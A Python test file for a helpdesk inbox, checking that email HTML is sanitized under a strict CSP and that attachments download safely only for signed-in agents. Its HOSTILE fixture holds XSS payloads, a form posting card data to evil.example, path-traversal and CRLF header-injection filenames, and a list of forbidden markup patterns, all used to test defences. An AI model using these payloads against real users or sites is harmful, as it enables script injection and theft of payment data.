"""What a ticket's messages carry: attachments only for signed-in agents and only as downloads; an
email's HTML only through its own endpoint, sanitized, under a CSP that forbids scripts, framable only
by our pages. (That no script runs in a real browser is the browser tests' job.)"""

from __future__ import annotations

import re

from router.core.inbound import Identity, InboundAttachment, InboundMessage
from router.core.pipeline import Pipeline
from router.web.inbox.ticket_files import content_disposition
from tests.conftest import sign_in

HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><style>body { background: url(https://evil.example/track.png) }</style></head>
<body onload="alert('body')"><p>Please see the invoice.</p>
<script>alert('script')</script><img src="x" onerror="alert('img')">
<svg onload="alert('svg')"><circle r="10"/></svg>
<a href="javascript:alert('js')">pay now</a> <a href="data:text/html,<script>alert(1)</script>">data</a>
<a href="https://shop.example/orders/1182">your order</a>
<div style="width: expression(alert('css')); color: red">red text</div>
<form action="https://evil.example/steal" method="post"><input name="card"><button>Pay</button></form>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object>
<img src="cid:logo@shop.example" alt="logo"><img src="https://tracker.example/pixel.gif" alt="pixel">
</body></html>"""
INVOICE = '請求書 "11月".pdf'
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000")


async def mail(pool, config, clock, *, html: str | None = HOSTILE, attachments=()) -> tuple[str, int]:
    """An email stored with `html` as is: intake sanitizes too, the frame must not rely on it."""
    result = await Pipeline(config, clock).ingest(pool, InboundMessage(
        "email", (Identity("email", "taro@customer.example"),), "Please see the invoice.",
        external_id="hostile@customer.example", subject="Invoice", html=html, attachments=tuple(attachments)))
    assert result.ticket_ref and result.message_id
    return result.ticket_ref, result.message_id


async def attachment_ids(pool, message_id: int) -> dict[str, int]:
    async with pool.acquire() as conn:
        rows = await conn.fetch("SELECT id, filename FROM attachments WHERE message_id = $1", message_id)
    return {row["filename"]: row["id"] for row in rows}


async def test_attachments_download_only_for_signed_in_agents(client, pool, config, clock):
    ref, message_id = await mail(pool, config, clock, attachments=[
        InboundAttachment(INVOICE, "application/pdf", b"%PDF-1.4 invoice"),
        InboundAttachment("../../etc/page.html", "text/html", b"<script>alert(1)</script>")])
    ids = await attachment_ids(pool, message_id)
    pdf = f"/inbox/{ref}/attachments/{ids[INVOICE]}"
    signed_out = await client.get(pdf)
    assert signed_out.status_code == 303 and signed_out.headers["location"].startswith("/login")
    assert b"%PDF" not in signed_out.content

    await sign_in(client, "aiko@example.com")
    response = await client.get(pdf)
    assert response.status_code == 200 and response.content == b"%PDF-1.4 invoice"
    assert response.headers["content-type"] == "application/pdf"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-disposition"] == (
        "attachment; filename=\"___ _11__.pdf\"; filename*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8%20%2211%E6%9C%88%22.pdf")
    assert "no-store" in response.headers["cache-control"]

    page = await client.get(f"/inbox/{ref}/attachments/{ids['../../etc/page.html']}")
    assert page.status_code == 200
    assert page.headers["content-type"] == "application/octet-stream", "HTML must never be served as HTML"
    assert page.headers["content-disposition"].startswith('attachment; filename="page.html"')
    assert "sandbox" in page.headers["content-security-policy"]


async def test_an_attachment_of_another_ticket_or_a_lost_file_is_not_found(client, pool, config, clock):
    ref, message_id = await mail(pool, config, clock, attachments=[
        InboundAttachment("a.pdf", "application/pdf", b"%PDF-1.4 a")])
    other = await Pipeline(config, clock).ingest(pool, InboundMessage(
        "email", (Identity("email", "someone@else.example"),), "another customer", external_id="other@x"))
    attachment = (await attachment_ids(pool, message_id))["a.pdf"]
    await sign_in(client, "aiko@example.com")
    assert (await client.get(f"/inbox/{other.ticket_ref}/attachments/{attachment}")).status_code == 404
    async with pool.acquire() as conn:
        await conn.execute("UPDATE attachments SET sha256 = $2 WHERE id = $1", attachment, "0" * 64)
    lost = await client.get(f"/inbox/{ref}/attachments/{attachment}")
    assert lost.status_code == 404 and "missing from the server" in lost.text


def test_content_disposition_is_safe_for_any_name():
    header = content_disposition('a\r\nSet-Cookie: x=1;"\\evil\x00.txt')
    assert "\r" not in header and "\n" not in header and "\x00" not in header
    assert header.startswith('attachment; filename="evil.txt"')
    assert content_disposition("..") == "attachment; filename=\"attachment\"; filename*=UTF-8''attachment"


async def test_the_email_frame_has_its_own_restrictive_policy_and_no_active_content(client, pool, config, clock):
    ref, message_id = await mail(pool, config, clock, attachments=[
        InboundAttachment("logo.png", "image/png", PNG, content_id="<logo@shop.example>", inline=True)])
    url = f"/inbox/{ref}/messages/{message_id}/html"
    signed_out = await client.get(url)
    assert signed_out.status_code == 303 and "Please see" not in signed_out.text

    await sign_in(client, "aiko@example.com")
    response = await client.get(url)
    assert response.status_code == 200
    policy = response.headers["content-security-policy"]
    directives = {d.strip().split(" ")[0]: d.strip() for d in policy.split(";")}
    assert directives["default-src"] == "default-src 'none'"
    assert directives["img-src"] == "img-src data:"
    assert directives["frame-ancestors"] == "frame-ancestors 'self'"
    assert directives["form-action"] == "form-action 'none'" and directives["base-uri"] == "base-uri 'none'"
    assert "script-src" not in directives and "allow-scripts" not in policy
    assert response.headers["x-frame-options"] == "SAMEORIGIN"
    assert "no-store" in response.headers["cache-control"]

    body = response.text.lower()
    for forbidden in ("<script", "alert(", "onerror", "onload", "javascript:", "data:text/html", "<form",
                      "<iframe", "<object", "<meta http-equiv", "<base", "expression(", "<svg", "<style",
                      "evil.example"):
        assert forbidden not in body, forbidden
    assert "please see the invoice." in body and "red text" in body
    assert '<a href="https://shop.example/orders/1182" target="_blank" rel="noopener noreferrer">' in response.text
    assert re.search(r'<img src="data:image/png;base64,[A-Za-z0-9+/=]+" alt="logo">', response.text), \
        "the inline image is not shown from the message's own attachment"
    assert 'data-remote-src="https://tracker.example/pixel.gif"' in response.text, "remote images load only on request"
    assert "Remote images are hidden." in response.text


async def test_remote_images_only_when_the_agent_asks(client, pool, config, clock):
    ref, message_id = await mail(pool, config, clock,
                                 html='<img data-remote-src="https://cdn.example/p.png" alt="p">'
                                      '<img data-remote-src="javascript:alert(1)" alt="j">')
    await sign_in(client, "aiko@example.com")
    response = await client.get(f"/inbox/{ref}/messages/{message_id}/html?images=1")
    assert '<img src="https://cdn.example/p.png" alt="p">' in response.text
    assert "javascript:" not in response.text
    assert "img-src data: https: http:" in response.headers["content-security-policy"]


async def test_the_frame_of_a_message_without_html_or_of_another_ticket_is_not_found(client, pool, config, clock):
    ref, message_id = await mail(pool, config, clock, html=None)
    await sign_in(client, "aiko@example.com")
    assert (await client.get(f"/inbox/{ref}/messages/{message_id}/html")).status_code == 404
    assert (await client.get(f"/inbox/T-{int(ref[2:]) + 1}/messages/{message_id}/html")).status_code == 404
    assert (await client.get(f"/inbox/{ref}/messages/{2**63}/html")).status_code == 404
